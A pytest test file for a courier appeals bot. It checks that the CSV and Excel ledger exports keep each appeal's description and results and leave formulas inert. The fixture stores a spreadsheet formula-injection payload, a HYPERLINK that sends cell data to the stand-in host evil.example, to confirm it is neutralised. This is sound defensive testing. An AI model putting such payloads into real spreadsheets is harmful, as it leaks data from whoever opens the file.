"""The ledger export carries each appeal's description and every result, and never a live formula."""

import csv
import io

import pytest
from openpyxl import load_workbook

from domain.commands import ActOnAppeal, EventArgs, NewAppeal
from domain.lifecycle import Event
from tests.harness import START, running_bot

COURIER, STAFF, COORDINATOR = 1001, 500, 900
ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
async def bot(tmp_path):
    async with running_bot(tmp_path / "export.sqlite3") as running:
        running.user(COORDINATOR, "Coordinator")
        storage = running.services.storage
        await storage.people.seen(COURIER, "en", START)
        new = NewAppeal(courier_id=COURIER, category="facilities", description=ATTACK, language="en")
        number = (await storage.appeals.submit(new, "st1", START)).appeal.id
        for event, actor, note in (
            (Event.ACCEPT, STAFF, None),
            (Event.RESOLVE, STAFF, "+1 new charger, fitted"),
            (Event.RATE_UNSATISFIED, COURIER, "Still sparks"),
            (Event.RESOLVE, STAFF, "@all: replaced again\nand tested"),
        ):
            await storage.appeals.apply(ActOnAppeal(number, event, actor, EventArgs(note=note)), running.clock())
        await running.tick()
        yield running


@pytest.mark.slow  # the bot's worker process builds the file
async def test_description_and_every_result_in_csv_and_excel_without_formulas(bot) -> None:
    """Both files: the description and the two results (oldest first, with their times); formulas made inert."""
    await bot.say(COORDINATOR, "/export")
    await bot.press(COORDINATOR, "This week")
    csv_message, xlsx_message = [m for m in bot.core.bot_messages(COORDINATOR) if "document" in m][-2:]
    read = lambda m: bot.core.file_bytes(bot.core.file_path(m["document"]["file_id"]))  # noqa: E731
    header, row = list(csv.reader(io.StringIO(read(csv_message).decode("utf-8-sig"), newline="")))
    description, results = row[header.index("Description")], row[header.index("Results")]
    assert description == "'" + ATTACK
    assert results == "2026-11-23 10:00 +1 new charger, fitted\n2026-11-23 10:00 @all: replaced again\nand tested"

    sheet = load_workbook(io.BytesIO(read(xlsx_message)))["Ledger"]
    headers = [c.value for c in sheet[1]]
    cells = {h: c for h, c in zip(headers, sheet[2], strict=True)}
    # Excel holds the text exactly, typed as a string and quote-prefixed as Excel marks typed '=...
    assert cells["Description"].value == ATTACK and cells["Description"].data_type == "s"
    assert cells["Description"].quotePrefix
    assert cells["Results"].value == results and cells["Results"].data_type == "s"
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
